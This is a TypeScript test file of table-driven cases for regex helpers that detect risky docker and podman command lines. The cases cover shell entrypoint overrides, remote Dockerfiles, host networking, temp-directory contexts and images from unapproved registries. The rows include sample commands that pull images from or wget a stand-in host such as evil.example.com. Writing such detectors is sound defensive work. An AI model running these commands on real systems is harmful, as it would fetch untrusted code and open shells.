/**
 * The helper grammars (src/ir/helpers.ts), table-driven. Each row is a field value and whether the
 * helper holds; the regex is run by JavaScript here and by every target's engine in issue #4.
 */
import { describe, expect, it } from 'vitest';
import * as H from '../../src/ir/helpers.js';
import { PortableRegex } from '../../src/ir/regex.js';

const js = (source: string) => PortableRegex.trusted(source, false).toJs(false);

function table(name: string, source: string, rows: [string, boolean][]): void {
  describe(name, () => {
    const re = js(source);
    it.each(rows)('%j → %s', (value, expected) => expect(re.test(value)).toBe(expected));
  });
}

table('executable: shells and interpreters with version suffixes', H.executableRegex({ names: ['sh', 'bash', 'python', 'ruby', 'perl'], versionSuffix: true, caseInsensitive: true }), [
  ['/bin/sh', true],
  ['sh', true],
  ['/usr/bin/bash', true],
  ['/usr/bin/python3', true],
  ['/usr/bin/python3.11', true],
  ['/usr/local/bin/ruby3.2', true],
  ['/usr/bin/perl5.36.0', true],
  ['C:\\tools\\bash', true],
  ['/BIN/BASH', true],
  ['/usr/sbin/sshd', false],
  ['/usr/bin/containerd-shim', false],
  ['/usr/bin/pwsh', false],
  ['/usr/bin/python3x', false],
  ['/usr/bin/python-config', false],
  ['/opt/bash/bin/node', false],
  ['bash.exe', false],
  ['', false],
]);

table('executable without version suffix', H.executableRegex({ names: ['docker'], versionSuffix: false, caseInsensitive: false }), [
  ['/usr/bin/docker', true],
  ['/usr/bin/docker2', false],
  ['/usr/bin/DOCKER', false],
  ['/usr/libexec/docker/cli-plugins/docker-buildx', false],
]);

table('flag --no-cache (boolean)', H.flagRegex({ names: ['--no-cache'], caseInsensitive: false }), [
  ['docker build --no-cache .', true],
  ['docker build --no-cache', true],
  ['docker build --no-cache=true .', true],
  ['docker build --no-cache=1 .', true],
  ['docker build "--no-cache" .', true],
  ["docker build '--no-cache' .", true],
  ['docker build\t--no-cache\t.', true],
  ['docker build --no-cache=false .', false],
  ['docker build --no-cache=0 .', false],
  ['docker build --no-cache-filter stage .', false],
  ['docker build --x--no-cache .', false],
  ['docker build --label "a --no-cache b" .', false],
  ["docker build --label 'a --no-cache' .", false],
  ['docker build -- --no-cache', false],
  ['docker build --NO-CACHE .', false],
  ['docker build --label "unbalanced --no-cache', false],
  ['docker build --label x\\ --no-cache .', false], // one word: the blank is escaped
  ['docker build --label x\\  --no-cache .', true],
]);

table('short boolean flag -q in combined short flags', H.flagRegex({ names: ['-q'], caseInsensitive: false }), [
  ['docker build -q .', true],
  ['docker build -qt x .', true],
  ['docker build -tq x .', true],
  ['docker build --quiet .', false],
  ['docker build -t quay .', false],
]);

table('flag -f/--file with an http(s) value', H.flagRegex({ names: ['-f', '--file'], values: { startswith: ['http://', 'https://'] }, caseInsensitive: true }), [
  ['docker build -f https://x/Dockerfile .', true],
  ['docker build -f  https://x/Dockerfile .', true],
  ['docker build -fhttps://x/Dockerfile .', true],
  ['docker build -f=https://x .', true],
  ['docker build --file https://x .', true],
  ['docker build --file=HTTP://x .', true],
  ['docker build --file "https://x" .', true],
  ['docker build -qf https://x .', true],
  ['docker build -f - .', false],
  ['docker build -f Dockerfile https://x', false],
  ['docker build --filex https://x .', false],
  ['docker build --label "-f https://x" .', false],
  ['docker build -- -f https://x', false],
  ['docker build "--file=https://x" .', true],
  ['docker build "-fhttps://x" .', true],
  ['docker build "--file https://x" .', false],
]);

table('flag with whole values (equals)', H.flagRegex({ names: ['--network'], values: { equals: ['host'] }, caseInsensitive: false }), [
  ['docker build --network host .', true],
  ['docker build --network=host .', true],
  ['docker build --network hostile .', false],
  ['docker build --network=none .', false],
]);

table('path argument under temp directories', H.pathUnderRegex(['/tmp', '/var/tmp', '/dev/shm', '/run/user']), [
  ['docker build /tmp', true],
  ['docker build /tmp/', true],
  ['docker build /tmp/ctx', true],
  ['docker build /var/tmp', true],
  ['docker build -f /tmp/Dockerfile .', true],
  ['docker build -f/tmp/Dockerfile .', true],
  ['docker build --file=/dev/shm .', true],
  ['docker build "/var/tmp/a b"', true],
  ["docker build '/tmp/x'", true],
  ['buildctl build --local context=/run/user/1000/x', true],
  ['docker build /home/u/tmp/', false],
  ['docker build /tmpl/', false],
  ['docker build /var/tmpx', false],
  ['docker build ./tmp', false],
  ['docker build x/tmp/y', false],
  ['docker build --label "see /tmp/x" .', false],
  ['docker build /TMP/x', false],
]);

table('relative path argument', H.relativePathRegex(), [
  ['docker build .', true],
  ['docker build -t x ./ctx', true],
  ['docker build -f ./Dockerfile /abs', true],
  ['docker build ..', false],
  ['docker build ../x', false],
  ['docker build .hidden', false],
  ['docker build /abs', false],
]);

table('directory under', H.directoryUnderRegex(['/tmp', '/run/user']), [
  ['/tmp', true],
  ['/tmp/build', true],
  ['/run/user/1000', true],
  ['/tmpfoo', false],
  ['/home/tmp', false],
]);

table('argument starts/contains/ends', H.argumentRegex({ startswith: ['https://', 'git@'], contains: ['.git#'], endswith: ['.git'], caseInsensitive: true }), [
  ['docker build https://github.com/a/b', true],
  ['docker build HTTPS://x', true],
  ['docker build git@github.com:a/b', true],
  ['docker build github.com/a/b.git', true],
  ['docker build github.com/a/b.git#main:sub', true],
  ['docker build --build-arg URL=https://x .', true],
  ['docker build "https://x"', true],
  ['docker build .', false],
  ['docker build -t x/https:// .', false],
  ['docker build --label "x https://y" .', false],
  ['docker build github.com/a/b.gitx', false],
]);

table('subcommand build with global value options', H.subcommandRegex({ words: ['build', 'image build', 'buildx build'], optionsWithValue: ['-H', '--host', '-c', '--context'] }), [
  ['docker build .', true],
  ['/usr/bin/docker build .', true],
  ['docker  build  -t x  .', true],
  ['docker image build .', true],
  ['docker buildx build .', true],
  ['docker --debug build .', true],
  ['docker -H tcp://h:2375 build .', true],
  ['docker --host=tcp://h build .', true],
  ['docker -c prod --debug image build .', true],
  ['"/usr/bin/docker" build .', true],
  ['docker build', true],
  ['docker run builder', false],
  ['docker image ls build', false],
  ['docker buildx bake', false],
  ['docker rebuild .', false],
  ['docker builds', false],
  ['docker run --name build alpine', false],
  ['docker BUILD .', false],
  ['docker', false],
]);

table('flag --entrypoint with executable names (basename)', H.flagRegex({ names: ['--entrypoint'], values: { basename: ['sh', 'bash', 'wget'] }, caseInsensitive: true }), [
  ['docker run --entrypoint sh alpine', true],
  ['docker run --entrypoint /bin/sh alpine', true],
  ['docker run --entrypoint=/usr/local/bin/bash alpine', true],
  ['docker run --entrypoint "/bin/sh" alpine', true],
  ["docker run --entrypoint '/usr/bin/wget' busybox -O- http://x", true],
  ['docker run --entrypoint /BIN/SH alpine', true],
  ['docker run --entrypoint', false],
  ["podman run --entrypoint '[\"/bin/sh\", \"-c\", \"id\"]' alpine", true],
  ["podman run --entrypoint '[ \"sh\" ]' alpine", true],
  ["podman run --entrypoint '[\"/bin/true\", \"sh\"]' alpine", false],
  ['docker run --entrypoint /bin/shx alpine', false],
  ['docker run --entrypoint /usr/sbin/sshd alpine', false],
  ['docker run --entrypoint /bin/sh.d/x alpine', false],
  ['docker run --entrypoint /opt/sh/bin/app alpine', false],
  ['docker run --entrypoint bashful alpine', false],
  ['docker run --entrypoint "" alpine sh', false],
  ['docker run --label "--entrypoint sh" alpine', false],
  ['docker run --entrypoint-x sh alpine', false],
]);

/** The option lists of a small docker run / pull grammar used by the image tables. */
const runImage = {
  words: ['run', 'container run', 'create'],
  optionsWithValue: ['-H', '--host', '-c', '--context', '--config', '-l', '--log-level', '-n', '--namespace'],
  booleanOptions: ['--debug', '--tls'],
  subcommandOptionsWithValue: ['-v', '--volume', '-e', '--env', '-p', '--publish', '-l', '--label', '-a', '--attach', '-u', '--user', '-w', '--workdir', '--name', '--entrypoint', '--network', '--net', '--mount', '--pull', '--platform', '--restart', '--cap-add', '--pids-limit'],
  subcommandBooleanOptions: ['--rm', '--detach', '--privileged', '--tty', '--interactive', '--init', '--read-only'],
};
const pullImage = { ...runImage, words: ['pull', 'image pull'], subcommandOptionsWithValue: ['--platform'], subcommandBooleanOptions: ['--all-tags', '--quiet', '--disable-content-trust'] };

table('image: the reading of options before the image (registry explicit)', H.imageRegex({ ...runImage, registry: { kind: 'explicit' } }), [
  ['docker run evil.example.com/x', true],
  ['/usr/bin/docker run evil.example.com/x', true],
  ['docker container run evil.example.com/x', true],
  ['docker create evil.example.com/x', true],
  ['docker run --name x -v /a:/b evil.example.com:5000/img', true],
  ['docker run --name=x --volume=/a:/b evil.example.com/img', true],
  ['docker run -it --rm -d evil.example.com/img sh', true],
  ['docker run -dp 8080:80 evil.example.com/img', true], // -d, then -p takes 8080:80
  ['docker run -dp8080:80 evil.example.com/img', true], // -p's value attached
  ['docker run -d=true evil.example.com/img', true],
  ['docker run -e "A=b c" evil.example.com/img', true],
  ['docker run "-eA=b c" evil.example.com/img', true],
  ['docker run "--label=a b" evil.example.com/img', true],
  ['docker run --rm=false evil.example.com/img', true],
  ['docker run --pids-limit -1 evil.example.com/img', true], // a value may start with a dash
  ['docker run --name -v evil.example.com/img ubuntu', true], // pflag: the container is named "-v"
  ['docker run -- evil.example.com/img', true],
  ['docker -H tcp://h:2375 --debug run evil.example.com/x', true],
  ['docker --config run run evil.example.com/x', true], // --config takes "run" as its value
  ['docker -lDEBUG run evil.example.com/x', true],
  ['docker  run\t--rm \t evil.example.com/x', true],
  ['docker run --label evil.example.com/x alpine', false], // the label's value is not the image
  ['docker run -l evil.example.com/x alpine', false],
  ['docker run --label=evil.example.com/x alpine', false],
  ['docker run -e REG=evil.example.com/x alpine', false],
  ['docker run --name evil.example.com/x alpine', false],
  ['docker run alpine evil.example.com/x', false], // the container's command
  ['docker run --rm alpine wget http://evil.example.com/x', false],
  ['docker run --future-flag evil.example.com/x', false], // in no list: nothing after it is read
  ['docker run "--name" x evil.example.com/x', false], // a quoted word starting with a dash stands alone, so x is the image
  ['docker run - evil.example.com/x', false],
  ['docker run', false],
  ['docker run --name', false],
  ['docker pull evil.example.com/x', false], // not one of the words
  ['docker RUN evil.example.com/x', false],
  ['docker runner evil.example.com/x', false],
  ['docker --future-global run evil.example.com/x', false],
]);

table('image registry explicit: the reference grammar', H.imageRegex({ ...pullImage, registry: { kind: 'explicit' } }), [
  ['docker pull registry.k8s.io/pause:3.9', true],
  ['docker pull 10.0.0.5:5000/tool', true],
  ['docker pull 10.0.0.5/tool', true],
  ['docker pull [::1]:5000/x', true],
  ['docker pull [fe80::1]/x', true],
  ['docker pull localhost/x', true],
  ['docker pull localhost:5000/x', true],
  ['docker pull host:5000/x', true], // a port makes a host
  ['docker pull EVIL/x', true], // upper case: only a host may have it
  ['docker pull Registry.K8S.io/pause', true],
  ['docker image pull "evil.example.com/x"', true],
  ["docker pull 'evil.example.com/x'", true],
  ['docker pull docker://evil.example.com/x', true],
  ['docker pull "evil.example.com"/x', true], // quoted piecewise: read as explicit
  ['docker pull evil\\.example\\.com/x', true],
  ['docker pull --platform linux/amd64 evil.example.com/x', true],
  ['docker pull -a evil.example.com/x', true], // pull's -a is --all-tags, a boolean
  ['docker pull ubuntu', false],
  ['docker pull ubuntu:22.04', false],
  ['docker pull library/alpine', false],
  ['docker pull org/team/app:1', false],
  ['docker pull localhost:5000', false], // no /: the image "localhost" with tag 5000
  ['docker pull localhostx/y', false],
  ['docker pull my-org/app', false],
  ['docker pull "ubuntu/x"', false],
  ['docker pull docker://ubuntu', false],
  ['docker pull dir:/tmp/x', false], // a colon without a numeric port names no registry
  ['docker pull oci-archive:/tmp/x.tar', false],
  ['docker pull host:abc/x', false],
  ['docker pull [abc]/x', false], // no . or : in it
  ['docker pull /abs/path', false],
  ['docker pull --platform evil.example.com/x ubuntu', false],
  ['docker pull "-x.y/z"', false],
]);

const approved = ['docker.io', 'registry.k8s.io', 'ghcr.io', '10.0.0.7'];
table('image registry listed (domain list with docker.io)', H.imageRegex({ ...pullImage, registry: { kind: 'listed', entries: approved, match: 'domain' } }), [
  ['docker pull registry.k8s.io/pause:3.9', true],
  ['docker pull Registry.K8S.io/pause', true], // ASCII case ignored
  ['docker pull mirror.registry.k8s.io/pause', true], // a subdomain
  ['docker pull registry.k8s.io:443/pause', true], // the port is not compared
  ['docker pull index.docker.io/library/alpine', true],
  ['docker pull docker.io/library/alpine', true],
  ['docker pull ubuntu', true], // implicit docker.io
  ['docker pull ubuntu:22.04', true],
  ['docker pull library/alpine', true],
  ['docker pull "library/alpine"', true],
  ['docker pull localhost:5000', true], // the Docker Hub image "localhost"
  ['docker pull localhostx/y', true],
  ['docker pull docker://ghcr.io/org/x', true],
  ['docker pull 10.0.0.7:5000/x', true], // a numeric entry matches itself
  ['docker pull evil.example.com/x', false],
  ['docker pull evilregistry.k8s.io/pause', false], // not a subdomain
  ['docker pull registry.k8s.io.evil.com/pause', false],
  ['docker pull localhost/x', false],
  ['docker pull localhost:5000/x', false],
  ['docker pull 10.0.0.5:5000/tool', false],
  ['docker pull 110.0.0.7/x', false],
  ['docker pull 1.10.0.0.7/x', false], // a numeric entry has no subdomains
  ['docker pull [::1]:5000/x', false],
  ['docker pull EVIL/x', false],
  ['docker pull "registry.k8s.io"/pause', false], // quoted piecewise: never listed
  ['docker pull registry.k8s.io:abc/pause', false],
  ['docker pull dir:/tmp/x', false],
  ['docker pull --platform registry.k8s.io/pause evil.example.com/x', false],
  ['docker pull --future-flag ubuntu', false],
  ['docker pull "ubuntu', false], // an unpaired quote: nothing is read
  ["docker pull 'ubuntu:22.04'", true],
  ['docker pull "ubuntu" x', true],
]);

table('image registry listed (exact list without docker.io)', H.imageRegex({ ...runImage, registry: { kind: 'listed', entries: ['registry.example.net', 'localhost'], match: 'exact' } }), [
  ['docker run registry.example.net/app', true],
  ['docker run REGISTRY.example.NET:5000/app', true],
  ['docker run localhost:5000/app', true],
  ['docker run -v /a:/b --name x localhost/app', true],
  ['docker run sub.registry.example.net/app', false], // exact: no subdomains
  ['docker run ubuntu', false], // docker.io is not listed
  ['docker run library/alpine', false],
  ['docker run --label registry.example.net/app evil.example.com/x', false],
]);

table('trieAlternation', `^${H.trieAlternation(['net', 'network', 'network-alias', 'name', 'pull', 'pid'])}$`, [
  ['net', true],
  ['network', true],
  ['network-alias', true],
  ['name', true],
  ['pid', true],
  ['ne', false],
  ['netw', false],
  ['networks', false],
  ['pul', false],
  ['', false],
]);

describe('helper regexes stay linear on hostile input', () => {
  it('a long run of value options and unbalanced quotes is decided', () => {
    const re = js(H.subcommandRegex({ words: ['build'], optionsWithValue: ['-H'] }));
    expect(re.test(`docker ${'-H -H '.repeat(2000)}run`)).toBe(false);
    const flag = js(H.flagRegex({ names: ['--no-cache'], caseInsensitive: false }));
    expect(flag.test(`docker build ${'"a b" '.repeat(2000)}"unclosed --no-cache`)).toBe(false);
  });
  it('the image reading is decided on long option runs, unread options and unbalanced quotes', () => {
    const ex = js(H.imageRegex({ ...runImage, registry: { kind: 'explicit' } }));
    const li = js(H.imageRegex({ ...runImage, registry: { kind: 'listed', entries: approved, match: 'domain' } }));
    for (const re of [ex, li]) {
      expect(re.test(`docker run ${'--name -v '.repeat(3000)}--future x.y/z`)).toBe(false);
      expect(re.test(`docker ${'-H -H '.repeat(3000)}run --future x.y/z`)).toBe(false);
      expect(re.test(`docker run ${'-e "a b" '.repeat(3000)}"unclosed x.y/z`)).toBe(false);
      expect(re.test(`docker run ${'-it '.repeat(3000)}-v`)).toBe(false);
    }
    expect(ex.test(`docker run ${'--name -v '.repeat(3000)}evil.example.com/x`)).toBe(true);
  });
});
